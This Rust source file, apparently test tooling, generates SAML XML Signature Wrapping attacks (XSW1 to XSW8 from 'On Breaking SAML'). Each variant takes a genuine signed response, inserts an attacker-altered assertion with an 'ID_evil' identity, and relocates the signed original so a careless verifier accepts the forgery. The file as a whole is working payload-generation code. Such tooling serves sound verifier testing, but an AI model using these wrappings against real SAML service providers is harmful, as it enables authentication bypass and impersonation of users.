//! Answers of a SAML provider, wrapped as attackers wrap them: XSW1 to XSW8 of "On Breaking SAML" (Somorovsky et al., 2012).
//!
//! Each keeps the genuine signature and what was signed somewhere in the document, and shows something else to whoever
//! looks for an assertion without asking what the signature was about.

/// A genuine answer, cut where attackers cut it. The prefixes are those that Keycloak writes.
#[derive(Debug, Clone, Copy)]
pub struct SamlAnswer<'a> {
    text: &'a str,
    assertion: &'a str,
}

const SIGNATURE_END: &str = "</dsig:Signature>";

fn between<'a>(text: &'a str, begin: &str, end: &str) -> Option<&'a str> {
    let from = text.find(begin)?;
    let to = text.get(from..)?.find(end)?;
    text.get(from..from + to + end.len())
}

fn signature(text: &str) -> Option<&str> {
    between(text, "<dsig:Signature ", SIGNATURE_END)
}

/// Without its own signature.
fn bare(text: &str) -> String {
    signature(text).map_or_else(|| text.to_owned(), |s| text.replacen(s, "", 1))
}

impl<'a> SamlAnswer<'a> {
    /// Cuts an answer; none where it has no assertion.
    #[must_use]
    pub fn of(text: &'a str) -> Option<Self> {
        Some(Self { text, assertion: between(text, "<saml:Assertion ", "</saml:Assertion>")? })
    }

    /// The assertion.
    #[must_use]
    pub fn assertion(&self) -> &'a str {
        self.assertion
    }

    /// The answer without any signature.
    #[must_use]
    pub fn unsigned(&self) -> String {
        let mut text = self.text.to_owned();
        while let Some(s) = signature(&text) {
            text = text.replacen(&s.to_owned(), "", 1);
        }
        text
    }

    fn response_is_signed(&self) -> bool {
        self.text.split(self.assertion).next().is_some_and(|head| signature(head).is_some())
    }

    /// All wrappings that the answer's signatures allow, by name, in which `alter` is what the attacker wants to be.
    #[must_use]
    pub fn wrapped(&self, alter: impl Fn(&str) -> String) -> Vec<(&'static str, String)> {
        let mut out = Vec::new();
        // Another identity for what is false, so that the reference still leads to what is true.
        let evil = |text: &str| alter(text).replacen(" ID=\"ID_", " ID=\"ID_evil", 1);
        if self.response_is_signed() {
            let wrapper = evil(self.text);
            let original = bare(self.text);
            out.push(("XSW1", wrapper.replacen(SIGNATURE_END, &format!("{original}{SIGNATURE_END}"), 1)));
            out.push(("XSW2", wrapper.replacen("<dsig:Signature ", &format!("{original}<dsig:Signature "), 1)));
        }
        if signature(self.assertion).is_some() {
            let genuine = self.assertion;
            let (bare_evil, signed_evil, original) = (bare(&evil(genuine)), evil(genuine), bare(genuine));
            let with = |new: &str| self.text.replacen(genuine, new, 1);
            out.push(("XSW3", with(&format!("{bare_evil}{genuine}"))));
            let nested = bare_evil.replacen("</saml:Assertion>", &format!("{genuine}</saml:Assertion>"), 1);
            out.push(("XSW4", with(&nested)));
            out.push(("XSW5", with(&format!("{signed_evil}{original}"))));
            out.push(("XSW6", with(&signed_evil.replacen(SIGNATURE_END, &format!("{original}{SIGNATURE_END}"), 1))));
            // Extensions may hold anything, also twice the same identity.
            let extension = format!("<samlp:Extensions>{}</samlp:Extensions>{genuine}", bare(&alter(genuine)));
            out.push(("XSW7", with(&extension)));
            let object = format!("<dsig:Object>{original}</dsig:Object>{SIGNATURE_END}");
            out.push(("XSW8", with(&alter(genuine).replacen(SIGNATURE_END, &object, 1))));
            out.push(("XSW8 with its own identity", with(&signed_evil.replacen(SIGNATURE_END, &object, 1))));
        }
        out
    }
}
